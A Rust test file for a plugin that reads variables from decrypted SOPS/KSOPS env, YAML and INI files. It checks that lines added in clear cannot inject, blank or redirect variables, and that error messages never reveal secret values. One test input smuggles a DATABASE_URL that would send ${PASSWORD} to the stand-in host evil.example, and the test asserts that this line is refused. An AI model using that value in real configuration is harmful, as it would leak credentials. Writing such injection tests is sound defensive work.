use insta::assert_snapshot;
use proptest::prelude::*;

use super::*;
use crate::generate::STYLE;

/// The variables of a plain file of this format, as the plugin takes them
/// from one that was decrypted; and the warnings.
fn variables(text: &str, format: Format) -> Result<(Variables, Vec<String>)> {
    let document = Document::parse_plain(text.as_bytes(), format).unwrap();
    let printed = document.to_bytes(format, &STYLE).unwrap();
    let printed = std::str::from_utf8(&printed).unwrap();
    let mut warnings = Vec::new();
    let at = |what: &str| format!("here: {what}");
    read(printed, &Outline::of(&document), &at, &mut warnings).map(|found| (found, warnings))
}

fn values(text: &str, format: Format) -> Result<Vec<(String, String)>> {
    let (variables, _) = variables(text, format)?;
    let pairs = variables.into_iter();
    Ok(pairs
        .map(|(name, value)| (name, value.to_string()))
        .collect())
}

fn refused(text: &str, format: Format) -> String {
    match variables(text, format) {
        Err(error) => error.to_string(),
        Ok(_) => panic!("{text:?} is not refused"),
    }
}

/// The first line: the place and what is wrong.
fn headline(text: &str, format: Format) -> String {
    refused(text, format).lines().next().unwrap().to_owned()
}

#[test]
fn what_both_readings_agree_on_is_read() {
    for (text, format, expected) in [
        (
            "A=1\nB=x y\n",
            Format::Dotenv,
            &[("A", "1"), ("B", "x y")][..],
        ),
        (
            "export A=1\n# c\n\nexport  B=2\n",
            Format::Dotenv,
            &[("A", "1"), ("B", "2")],
        ),
        ("A = 1\n B=2\n", Format::Dotenv, &[("A", "1"), ("B", "2")]),
        ("A=1\nA=2\n", Format::Dotenv, &[("A", "2")]),
        ("A=\nB=\n", Format::Dotenv, &[("A", ""), ("B", "")]),
        ("A=\"x\" # c\n", Format::Dotenv, &[("A", "x")]),
        ("A='x'\\n\n", Format::Dotenv, &[]),
        ("export=1\n", Format::Dotenv, &[("export", "1")]),
        (
            "A: x\nB: 5\nC: \"\"\n",
            Format::Yaml,
            &[("A", "x"), ("B", "5"), ("C", "")],
        ),
        ("", Format::Dotenv, &[]),
        ("{}", Format::Yaml, &[]),
    ] {
        if expected.is_empty() && !text.is_empty() {
            // What godotenv cannot read at all.
            assert!(values(text, format).is_err(), "{text:?}");
            continue;
        }
        let expected = expected
            .iter()
            .map(|(n, v)| ((*n).to_owned(), (*v).to_owned()));
        assert_eq!(
            values(text, format).unwrap(),
            expected.collect::<Vec<_>>(),
            "{text:?}"
        );
    }
}

#[test]
fn a_line_in_clear_sets_no_other_variable() {
    assert_snapshot!(refused("PASSWORD=hunter2\nDATABASE_URL: http://evil.example/${PASSWORD} #=\n", Format::Dotenv), @r#"
    here: line 2: the key "DATABASE_URL: http://evil.example/${PASSWORD} #" of the file sets no variable of that name
      the text is read by other rules than the encrypted file, in which names, empty values and comments can be changed without a key: what does not say the same to both may be anybody's
      lines are those of the decrypted file
    name each variable with letters, digits, `_` and `.`, and write it on one line: NAME=value; where the file is meant to be read as it is, list it under `files:`
    "#);
    let texts = [
        // `:` ends a name, `#` starts a comment, blanks and quotes count.
        "A=1\nB:C=\n",
        "A=1\nB:C=2\n",
        "A=1\n #B=\n",
        "A=1\n #B=2\n",
        "A=1\nB #=\n",
        // A line break that is one for godotenv only.
        "A=1\rB=2\n",
        "A=x\rA=y\n",
        // What stands behind a closing quote is a statement.
        "A=\"x\" B=\"y\"\n",
        "A='x'B='y'\n",
        // A quote that swallows lines.
        "A='x\nB=y'\n",
        "A=\"x\n#it\"s\n",
    ];
    let all: Vec<_> = texts
        .iter()
        .map(|text| headline(text, Format::Dotenv))
        .collect();
    assert_snapshot!(all.join("\n"), @r#"
    here: line 2: the key "B:C" of the file sets no variable of that name
    here: line 2: the key "B:C" of the file sets no variable of that name
    here: line 2: the key " #B" of the file sets no variable of that name
    here: line 2: the key " #B" of the file sets no variable of that name
    here: line 2: a character that a variable's name cannot have
    here: line 1: a variable that is no key of the file
    here: line 1: a variable that is no key of the file
    here: line 1: a variable that is no key of the file
    here: line 1: a variable that is no key of the file
    here: line 1: the value of "A" goes on in the lines below, as it starts with a quote
    here: line 2: the line has no `=`
    "#);
}

#[test]
fn other_formats_are_judged_by_their_trees() {
    let texts = [
        ("A: x\nB:\n  C: y\n", Format::Yaml),
        ("A: |-\n  x\n  B=y\n", Format::Yaml),
        ("A: x\nB:\n- c=y\n", Format::Yaml),
        ("A: null\n", Format::Yaml),
        ("A: {}\n", Format::Yaml),
        ("A: []\n", Format::Yaml),
        ("A: x\n---\nB: y\n", Format::Yaml),
        ("A: x\nA b#c: y\n", Format::Yaml),
        ("A = 1\n", Format::Ini),
        ("[s]\nA = 1\n", Format::Ini),
        ("{\"A\": \"x\"}", Format::Json),
    ];
    let all: Vec<_> = texts
        .iter()
        .map(|(text, format)| headline(text, *format))
        .collect();
    assert_snapshot!(all.join("\n"), @r#"
    here: line 3: a variable that is no key of the file
    here: line 2: the line has no `=`
    here: line 3: a character that a variable's name cannot have
    here: line 1: the value of "A" is null, and would be that word as a text
    here: line 1: the value of "A" is an empty mapping, and would be that word as a text
    here: line 1: the value of "A" is an empty list, and would be that word as a text
    here: line 2: a character that a variable's name cannot have
    here: line 2: a character that a variable's name cannot have
    here: line 1: the key "DEFAULT" of the file sets no variable of that name
    here: line 1: a character that a variable's name cannot have
    here: line 1: a character that a variable's name cannot have
    "#);
    // One value that its author encrypted holds it all.
    assert_eq!(values("A: 1\nB=2", Format::Binary).unwrap().len(), 2);
}

#[test]
fn a_variable_is_not_blanked_by_a_line_in_clear() {
    assert_snapshot!(refused("PASSWORD=hunter2\nPASSWORD=\n", Format::Dotenv), @r#"
    here: line 2: "PASSWORD" is set a second time, and one of the two values is empty
      an empty value can be added without a key
      lines are those of the decrypted file
    take out the line that is not meant
    "#);
    for text in [
        "PASSWORD=hunter2\nexport PASSWORD=\n",
        "PASSWORD=hunter2\n PASSWORD =\n",
        "PASSWORD=\nPASSWORD=hunter2\n",
        "A=1\nA=2\nA=\n",
        "A=1\nA=\nA=2\n",
        "A=\nA=\n",
    ] {
        assert!(
            refused(text, Format::Dotenv).contains("a second time"),
            "{text:?}"
        );
    }
    // Two honest lines: KSOPS takes the last one.
    let (variables, warnings) = variables("A=1\nexport A=2\n", Format::Dotenv).unwrap();
    assert_eq!(*variables["A"], "2");
    assert_eq!(
        warnings,
        ["here: more than one line sets A; the last one counts"]
    );
}

#[test]
fn what_was_changed_is_warned_of() {
    let text = "A=x #y\nB=$A\nC=pa\\$s\nD='$A #\\$'\nE=\"c:\\temp\"\nF=z #y\n";
    let (_, warnings) = variables(text, Format::Dotenv).unwrap();
    assert_snapshot!(warnings.join("\n"), @r"
    here: `$NAME` was replaced in B; put single quotes around a value to keep its `$`
    here: what stands behind ` #` was cut off in A, F; put quotes around a value to keep it
    here: a backslash was taken out in C, E; put single quotes around a value to keep its `\`
    ");
    let many: String = (0..1_000).map(|n| format!("A{n}=x #y\n")).collect();
    let (_, warnings) = variables(&many, Format::Dotenv).unwrap();
    assert!(
        warnings[0].len() < 300 && warnings[0].contains("A19 and 980 more"),
        "{warnings:?}"
    );
}

#[test]
fn no_message_holds_a_value() {
    for text in [
        "A=\"x\" hunter2=y\n",
        "A=x\rhunter2=y\n",
        "A='x\nB=hunter2'\n",
        "A=ENC[hunter2\n A#ENC[hunter2]=\n",
    ] {
        let shown = refused(text, Format::Dotenv);
        assert!(!shown.contains("hunter2"), "{shown}");
    }
    let shown = refused("A: |-\n  x\n  hunter2=y\n", Format::Yaml);
    assert!(!shown.contains("hunter2"), "{shown}");
}

proptest! {
    /// Whoever adds a line without a key, which can only be a name without a
    /// value or a comment, changes no variable that was there, and adds none
    /// but an empty one of that very name.
    #[test]
    fn a_line_that_anybody_may_add_changes_nothing(
        honest in prop::collection::vec("(export )?[A-C][ab]?=[a-c$A-C{}'\"# \\\\]{0,6}", 1..5),
        added in "(#[a-c'\"=]{0,5}|(export )?[A-Da ]{0,3}[:#'\"$ ]{0,2}[A-D{} ]{0,3}=)",
        place in 0usize..5,
    ) {
        let text = honest.join("\n");
        let Ok((before, _)) = variables(&text, Format::Dotenv) else {
            return Ok(());
        };
        let mut lines = honest.clone();
        lines.insert(place.min(lines.len()), added.clone());
        let Ok((after, _)) = variables(&lines.join("\n"), Format::Dotenv) else {
            return Ok(());
        };
        let name = added.strip_suffix('=').map(env_file::bare_name);
        for (key, value) in &after {
            match before.get(key) {
                Some(was) => prop_assert_eq!(was, value, "{:?}", lines),
                None => prop_assert_eq!((Some(key.as_str()), ""), (name, value.as_str()), "{:?}", lines),
            }
        }
        prop_assert!(before.keys().all(|key| after.contains_key(key)));
    }
}
